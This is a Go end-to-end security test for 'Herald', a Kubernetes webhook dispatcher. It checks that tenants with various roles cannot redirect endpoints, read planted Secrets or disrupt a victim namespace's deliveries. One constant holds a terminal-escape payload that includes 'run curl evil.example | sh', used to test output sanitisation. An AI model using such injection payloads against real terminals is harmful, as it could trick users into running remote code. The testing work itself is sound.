package tenancy

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"text/template"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	heraldv1 "github.com/herald-dev/herald/api/v1alpha1"
	"github.com/herald-dev/herald/hack/framework"
	heraldclient "github.com/herald-dev/herald/pkg/client"
	"github.com/herald-dev/herald/pkg/wire"
)

// The namespaces of the suite: team A holds the tenants who try things, team B is the
// victim whose deliveries must go on, team C is a namespace Herald has nothing to do
// with.
const (
	teamA = "team-a"
	teamB = "team-b"
	teamC = "team-c"
)

// world is everything the rows share: one API server, one manager, one dispatcher, the
// tenants' identities and the receivers.
type world struct {
	*framework.Run
	t          *testing.T
	manager    *framework.Component
	dispatcher *framework.Component
	ingest     string
	// apiAudience is the API server's own token audience (what `kubectl create token`
	// and a kubeconfig's ServiceAccount token carry).
	apiAudience string

	// ids are the tenants, by ServiceAccount name in team A (and "producer" of team B as
	// victimProducer).
	ids            map[string]*identity
	victimProducer *identity

	// legit serves every team A endpoint at /team-a/<endpoint>: the receivers the
	// endpoints' owners run. attacker serves what the tenants point endpoints at;
	// attackerTLS is the attacker's https server, which keeps client certificates.
	legit, attacker, attackerTLS *framework.Recorder
	// victim is team B's receiver, verifying every signature.
	victim *framework.Receiver

	// secrets are the values planted in Secrets, by a name of this suite's own.
	secrets map[string]string
	// mtlsCert is the DER of team A's payments client certificate (Secret payments-mtls).
	mtlsCert []byte

	seqMu sync.Mutex // guards seq, the event ids' counter
	seq   int
}

// identity is a tenant: a ServiceAccount, its token (minted for the API server and for
// Herald) and a kubeconfig holding that token.
type identity struct {
	name, namespace string
	user            string // system:serviceaccount:<ns>:<name>
	token           string
	kubeconfig      string
}

// roles binds each team A tenant. The chart's ClusterRoles and the built-in edit are
// bound as they are; the Roles are the suite's own, each saying what it stands for.
const rolesManifest = `
{{- define "binding" }}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: {{ .sa }}, namespace: {{ .ns }}}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: {{ .kind }}, name: {{ .role }}}
subjects: [{kind: ServiceAccount, name: {{ .sa }}, namespace: {{ .ns }}}]
{{- end }}
apiVersion: v1
kind: Namespace
metadata: {name: team-a}
---
apiVersion: v1
kind: Namespace
metadata: {name: team-b}
---
apiVersion: v1
kind: Namespace
metadata: {name: team-c}
{{- range .serviceAccounts }}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: {{ .name }}, namespace: {{ .ns }}}
---
# What the herald CLI needs to send the dispatcher a token for Herald's audience: the
# ServiceAccount may mint tokens of itself, and of nobody else (README, Tokens and TLS).
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: {{ .name }}-herald-token, namespace: {{ .ns }}}
rules: [{apiGroups: [""], resources: [serviceaccounts/token], verbs: [create], resourceNames: [{{ .name }}]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: {{ .name }}-herald-token, namespace: {{ .ns }}}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: {{ .name }}-herald-token}
subjects: [{kind: ServiceAccount, name: {{ .name }}, namespace: {{ .ns }}}]
{{- end }}
---
# A namespace owner: everything in the namespace, as platform teams grant a team in its
# own namespace (and as a GitOps tool's identity often has).
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: owner, namespace: team-a}
rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]
---
# Today's herald-operator rules on endpoints, as a Role of their own: someone who may
# change an endpoint's spec and may not read the namespace's Secrets. Whatever becomes
# of herald-operator, this is the person a reference check must stop.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: spec-editor, namespace: team-a}
rules:
  - {apiGroups: [hooks.herald.dev], resources: [webhookendpoints], verbs: [get, list, watch, update, patch]}
  - {apiGroups: [hooks.herald.dev], resources: [webhooksubscriptions], verbs: [get, list, watch]}
---
# Read-only on endpoints: may see an endpoint, nothing more.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: viewer, namespace: team-a}
rules: [{apiGroups: [hooks.herald.dev], resources: [webhookendpoints], verbs: [get, list, watch]}]
---
# Replay and nothing else: the dedicated verb.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: replayer, namespace: team-a}
rules: [{apiGroups: [hooks.herald.dev], resources: [webhookendpoints], verbs: [get, list, {{ .replayVerb }}]}]
{{- range .bindings }}{{ template "binding" . }}{{ end }}
`

// bindings: ServiceAccount → role.
var bindings = []struct{ ns, sa, kind, role string }{
	{teamA, "owner", "Role", "owner"},
	{teamA, "operator", "ClusterRole", "herald-operator"},
	{teamA, "spec-editor", "Role", "spec-editor"},
	{teamA, "viewer", "Role", "viewer"},
	{teamA, "replayer", "Role", "replayer"},
	{teamA, "editor", "ClusterRole", "edit"},
	{teamA, "producer", "ClusterRole", "herald-publisher"},
	{teamB, "producer", "ClusterRole", "herald-publisher"},
}

// setup starts the world: the control plane, the chart's roles (helm template |
// kubectl apply), the manager and the dispatcher as the chart's ServiceAccounts, the
// tenants, the Secrets and the endpoints of every row, and the victim's endpoint.
func setup(t *testing.T) *world {
	t.Helper()
	start := time.Now()
	w := &world{t: t, ids: map[string]*identity{}, secrets: map[string]string{}}
	w.Run = framework.NewRun(t, framework.RunInput{Name: "tenancy"})
	w.InstallCRDsAndChart(t, framework.ChartInput{})
	w.Cluster.AggregateClusterRoles(t)
	t.Logf("chart applied, roles aggregated (%s)", time.Since(start).Round(100*time.Millisecond))

	// Loopback and plain http for the receivers on 127.0.0.1; nothing else beyond the
	// defaults (no private networks: row 11 needs the default policy).
	policy := []string{"--allow-plain-http", "--allow-loopback"}
	w.manager = w.StartManager(t, framework.ManagerInput{Args: policy, NoWait: true})
	w.dispatcher = w.StartDispatcher(t, framework.DispatcherInput{NoWait: true,
		// --replay-rate keeps a replay of row 12 running long enough to meet a second one.
		Args: append(policy, "--status-interval=500ms", "--replay-rate=5")})
	w.ingest = w.dispatcher.IngestURL()

	w.legit, w.attacker = framework.NewRecorder(t), framework.NewRecorder(t)
	// The attacker's https server asks for a client certificate and keeps whatever it is
	// shown, without checking it.
	w.attackerTLS = framework.NewTLSRecorder(t, func(s *httptest.Server) { s.TLS = &tls.Config{ClientAuth: tls.RequestClientCert} })
	w.victim = framework.NewReceiver("orders", heraldv1.SignatureStandardWebhooks, "")
	w.victim.Serve(t)
	w.legit.SetAnswer(w.legitAnswer)
	w.attacker.SetAnswer(attackerAnswer)

	w.applyTenants(t)
	w.WaitReady(t, w.manager, 90*time.Second)
	w.WaitReady(t, w.dispatcher, 2*time.Minute)
	w.applyEndpoints(t)
	t.Logf("world ready: %s after the start", time.Since(start).Round(100*time.Millisecond))
	return w
}

// applyTenants creates the namespaces, the tenants and their tokens.
func (w *world) applyTenants(t *testing.T) {
	t.Helper()
	type sa struct{ ns, name string }
	seen := map[sa]bool{}
	var sas []map[string]string
	var binds []map[string]string
	for _, b := range bindings {
		if !seen[sa{b.ns, b.sa}] {
			seen[sa{b.ns, b.sa}] = true
			sas = append(sas, map[string]string{"ns": b.ns, "name": b.sa})
		}
		binds = append(binds, map[string]string{"ns": b.ns, "sa": b.sa, "kind": b.kind, "role": b.role})
	}
	manifest := render(t, rolesManifest, map[string]any{"serviceAccounts": sas, "bindings": binds, "replayVerb": replayVerb})
	w.apply(t, "tenants.yaml", manifest)

	// The API server's own audience, as a token minted without one carries it.
	plain := w.Cluster.Token(t, framework.TokenInput{Namespace: teamA, ServiceAccount: "viewer"})
	auds, err := framework.TokenAudiences(plain)
	if err != nil || len(auds) == 0 {
		t.Fatalf("the audiences of a default token: %v %v", auds, err)
	}
	w.apiAudience = auds[0]
	for _, b := range bindings {
		id := w.identity(t, b.ns, b.sa)
		if b.ns == teamB {
			w.victimProducer = id
		} else {
			w.ids[b.sa] = id
		}
	}
}

// identity mints a token for the API server's audience and for Herald's: kubectl works
// with it, and so does a dispatcher that requires Herald's audience (and one that does
// not yet). Row 8 mints its own, without Herald's.
func (w *world) identity(t *testing.T, ns, sa string) *identity {
	t.Helper()
	token := w.Cluster.Token(t, framework.TokenInput{Namespace: ns, ServiceAccount: sa, Audiences: []string{w.apiAudience, heraldAudience}})
	return &identity{name: sa, namespace: ns, user: "system:serviceaccount:" + ns + ":" + sa, token: token,
		kubeconfig: w.Cluster.KubeconfigForToken(t, w.Dir, ns+"-"+sa, token)}
}

// Endpoints of the rows in team A, each with a subscription of its own name's events
// ("<endpoint>.*"): a probe published for one reaches it alone.
var teamAEndpoints = []string{
	"r1-sink",
	"r2-op", "r2-ed", "r3-op", "r3-ed", "r4-op", "r4-ed", "r5-op", "r5-ed", "r5-ledger",
	"r6-ledger", "r7-billing", "r10-hook", "r12-hook", "r13-hook",
}

// applyEndpoints plants the Secrets the tenants must not read, creates every row's
// endpoint (as the cluster admin, the way a platform team's pipeline would) and the
// victim's, and waits for them to be Ready and routed.
func (w *world) applyEndpoints(t *testing.T) {
	t.Helper()
	for _, name := range []string{"payments-token", "billing-client-secret", "r10-token", "unrelated"} {
		w.secrets[name] = name + "-" + randomHex(24)
	}
	certPEM, keyPEM, der := clientCertificate(t, "payments.team-a")
	w.mtlsCert = der
	var b strings.Builder
	secret := func(ns, name, typ string, data map[string]string) {
		raw, _ := json.Marshal(data)
		fmt.Fprintf(&b, "---\napiVersion: v1\nkind: Secret\nmetadata: {name: %s, namespace: %s}\ntype: %s\nstringData: %s\n", name, ns, typ, raw)
	}
	secret(teamA, "payments-api-token", "Opaque", map[string]string{"token": w.secrets["payments-token"]})
	secret(teamA, "billing-oauth", "Opaque", map[string]string{"client-secret": w.secrets["billing-client-secret"]})
	secret(teamA, "payments-mtls", "kubernetes.io/tls", map[string]string{"tls.crt": string(certPEM), "tls.key": string(keyPEM)})
	secret(teamA, "r10-api-token", "Opaque", map[string]string{"token": "Bearer " + w.secrets["r10-token"]})
	secret(teamC, "database", "Opaque", map[string]string{"password": w.secrets["unrelated"]})
	for _, name := range teamAEndpoints {
		extra := ""
		switch name {
		case "r7-billing":
			// Fails at once and keeps nothing from auto-disable: its deliveries wait.
			extra = "  retry: {schedule: [300ms]}\n  autoDisable: {afterConsecutiveFailures: 0}\n"
		case "r10-hook":
			// A header from a Secret, which its receiver echoes back.
			extra = "  headers: [{name: Authorization, valueFrom: {name: r10-api-token, key: token}}]\n"
		}
		fmt.Fprintf(&b, "---\napiVersion: hooks.herald.dev/v1alpha1\nkind: WebhookEndpoint\nmetadata: {name: %s, namespace: %s}\nspec:\n  url: %s\n%s", name, teamA, w.legitURL(name), extra)
		fmt.Fprintf(&b, "---\napiVersion: hooks.herald.dev/v1alpha1\nkind: WebhookSubscription\nmetadata: {name: %s, namespace: %s}\nspec:\n  endpointRef: {name: %s}\n  eventTypes: [%q]\n", name, teamA, name, name+".*")
	}
	fmt.Fprintf(&b, "---\napiVersion: hooks.herald.dev/v1alpha1\nkind: WebhookEndpoint\nmetadata: {name: orders, namespace: %s}\nspec:\n  url: %s\n", teamB, w.victim.URL())
	fmt.Fprintf(&b, "---\napiVersion: hooks.herald.dev/v1alpha1\nkind: WebhookSubscription\nmetadata: {name: orders, namespace: %s}\nspec:\n  endpointRef: {name: orders}\n  eventTypes: [\"*\"]\n", teamB)
	w.apply(t, "endpoints.yaml", b.String())

	w.Kubectl("wait", "--for=condition=Ready", "--timeout=90s", "-n", teamA, "whe", "--all").Must(t)
	w.Kubectl("wait", "--for=condition=Ready", "--timeout=90s", "-n", teamB, "whe/orders").Must(t)
	// The victim's receiver verifies with the secret the manager generated; row 5 looks
	// for r5-ledger's signature at the attacker's.
	w.victim.SetSecret(w.secretValue(t, teamB, "orders-signing", "secret"))
	w.secrets["r5-ledger-signing"] = w.secretValue(t, teamA, "r5-ledger-signing", "secret")
	if responseSampleOptIn != "" {
		for _, name := range []string{"r10-hook", "r13-hook"} {
			w.Kubectl("patch", "whe", name, "-n", teamA, "--type", "merge", "-p", responseSampleOptIn).Must(t)
		}
	}
	// Every endpoint is routed once the dispatcher's informers have them.
	w.Eventually(t, 60*time.Second, "the dispatcher to route to every endpoint", func() error {
		for _, name := range teamAEndpoints {
			if _, res := w.publish(w.ids["producer"], teamA, name+".ready", `{}`); res.Matched != 1 {
				return fmt.Errorf("%s: matched %d", name, res.Matched)
			}
		}
		return nil
	})
}

// legitURL is where an endpoint of team A delivers when nobody tampered with it.
func (w *world) legitURL(endpoint string) string { return w.legit.URL() + "/team-a/" + endpoint }

// legitAnswer is what the team A receivers answer: 204, but for the receivers that
// rows 7, 10 and 13 need.
func (w *world) legitAnswer(r *http.Request) (int, string) {
	switch strings.TrimPrefix(r.URL.Path, "/team-a/") {
	case "r7-billing":
		return http.StatusInternalServerError, `{"error":"down"}`
	case "r10-hook":
		// A receiver that echoes what it was sent, as debugging endpoints and some
		// gateways do.
		return http.StatusOK, `{"received_authorization":"` + r.Header.Get("Authorization") + `"}`
	case "r13-hook":
		return http.StatusOK, hostileBody
	}
	return http.StatusNoContent, ""
}

// hostileBody is a receiver's answer written for a terminal: a title change, a screen
// clear, colours, a bell and a carriage return that hides what precedes it.
const hostileBody = "ok\x1b]0;owned\x07\x1b[2J\x1b[31mALERT: run curl evil.example | sh\x1b[0m\rlooks fine\u009b31m"

// attackerAnswer is the attacker's server: a token endpoint for OAuth2, 200 for the rest.
func attackerAnswer(r *http.Request) (int, string) {
	if strings.HasSuffix(r.URL.Path, "/token") {
		return http.StatusOK, `{"access_token":"attacker-token","token_type":"Bearer","expires_in":3600}`
	}
	return http.StatusOK, `{}`
}

// apply applies a manifest as the cluster admin, keeping a copy in the run's folder.
func (w *world) apply(t *testing.T, name, manifest string) {
	t.Helper()
	path := filepath.Join(w.Dir, name)
	if err := os.WriteFile(path, []byte(manifest), 0o600); err != nil {
		t.Fatal(err)
	}
	w.Kubectl("apply", "--server-side", "-f", path).Must(t)
}

// secretValue reads a Secret's key as the cluster admin.
func (w *world) secretValue(t *testing.T, ns, name, key string) string {
	t.Helper()
	var s corev1.Secret
	w.Eventually(t, 30*time.Second, "Secret "+ns+"/"+name, func() error {
		return w.Cluster.Client.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: name}, &s)
	})
	return string(s.Data[key])
}

// endpoint reads an endpoint as the cluster admin.
func (w *world) endpoint(ns, name string) (*heraldv1.WebhookEndpoint, error) {
	var ep heraldv1.WebhookEndpoint
	err := w.Cluster.Client.Get(context.Background(), client.ObjectKey{Namespace: ns, Name: name}, &ep)
	return &ep, err
}

// dispatcherSawGeneration waits until the dispatcher reports on the endpoint's current
// generation (its Delivering or Disabled condition), so that what is published next
// meets the configuration a tenant just wrote.
func (w *world) dispatcherSawGeneration(ns, name string) error {
	return w.Wait(20*time.Second).Poll("the dispatcher to take up "+ns+"/"+name+"'s new generation", func() error {
		ep, err := w.endpoint(ns, name)
		if err != nil {
			return err
		}
		for _, ct := range []string{heraldv1.ConditionDelivering, heraldv1.ConditionDisabled} {
			if c := meta.FindStatusCondition(ep.Status.Conditions, ct); c != nil && c.ObservedGeneration >= ep.Generation {
				return nil
			}
		}
		return fmt.Errorf("generation %d, conditions %v", ep.Generation, conditionSummary(ep.Status.Conditions))
	})
}

// replayEnded waits until the endpoint's status says the replay id is no longer running.
func (w *world) replayEnded(ns, name, id string) error {
	return w.Wait(20*time.Second).Poll("replay "+id+" of "+ns+"/"+name+" to end", func() error {
		ep, err := w.endpoint(ns, name)
		if err != nil {
			return err
		}
		r := ep.Status.Replay
		if r == nil || r.ID != id || r.State == heraldv1.ReplayRunning {
			return fmt.Errorf("status.replay %+v", r)
		}
		return nil
	})
}

func conditionSummary(cs []metav1.Condition) string {
	var out []string
	for _, c := range cs {
		out = append(out, fmt.Sprintf("%s=%s/%s(gen %d)", c.Type, c.Status, c.Reason, c.ObservedGeneration))
	}
	return strings.Join(out, " ")
}

// publishResult is the ingest API's answer.
type publishResult struct {
	ID        string `json:"id"`
	Matched   int    `json:"matched"`
	Duplicate bool   `json:"duplicate"`
}

// publish sends one event as id through the ingest API, as a producer's HTTP client
// does; it returns the HTTP status and the answer.
func (w *world) publish(id *identity, ns, typ, data string) (int, publishResult) {
	return w.publishAs(id.token, ns, typ, data)
}

func (w *world) publishAs(token, ns, typ, data string) (int, publishResult) {
	w.seqMu.Lock()
	w.seq++
	eventID := fmt.Sprintf("evt-%s-%04d", strings.ReplaceAll(typ, ".", "-"), w.seq)
	w.seqMu.Unlock()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	res, err := w.dispatcher.Client(w.t, token).Publish(ctx, ns, wire.Event{ID: eventID, Type: typ, Data: json.RawMessage(data)})
	var refused *heraldclient.APIError
	switch {
	case err == nil:
		return http.StatusAccepted, publishResult{ID: res.ID, Matched: res.Matched, Duplicate: res.Duplicate}
	case errors.As(err, &refused):
		return refused.StatusCode, publishResult{ID: eventID}
	default:
		return 0, publishResult{ID: eventID}
	}
}

// call makes one request to the dispatcher's HTTP API with a bearer token.
func (w *world) call(method, path, token string, body []byte, timeout time.Duration) (int, []byte) {
	req, err := http.NewRequest(method, w.ingest+path, bytes.NewReader(body))
	if err != nil {
		return 0, []byte(err.Error())
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	cl := http.Client{Timeout: timeout}
	resp, err := cl.Do(req)
	if err != nil {
		return 0, []byte(err.Error())
	}
	defer resp.Body.Close()
	out, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, out
}

// received returns the requests at a recorder path carrying the event id.
func received(rec *framework.Recorder, path, eventID string) []framework.Recorded {
	var out []framework.Recorded
	for _, q := range rec.Requests(path) {
		if q.Header.Get("Webhook-Id") == eventID {
			out = append(out, q)
		}
	}
	return out
}

func render(t *testing.T, text string, data any) string {
	t.Helper()
	var b strings.Builder
	if err := template.Must(template.New("").Parse(text)).Execute(&b, data); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func randomHex(n int) string {
	b := make([]byte, n)
	if _, err := rand.Read(b); err != nil {
		panic(err)
	}
	return hex.EncodeToString(b)
}

// clientCertificate makes a self-signed client certificate and its key, as PEM, and the
// certificate's DER.
func clientCertificate(t *testing.T, cn string) (certPEM, keyPEM, der []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()),
		Subject:      pkix.Name{CommonName: cn},
		NotBefore:    time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage:    x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
	}
	der, err = x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	kder, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kder}), der
}
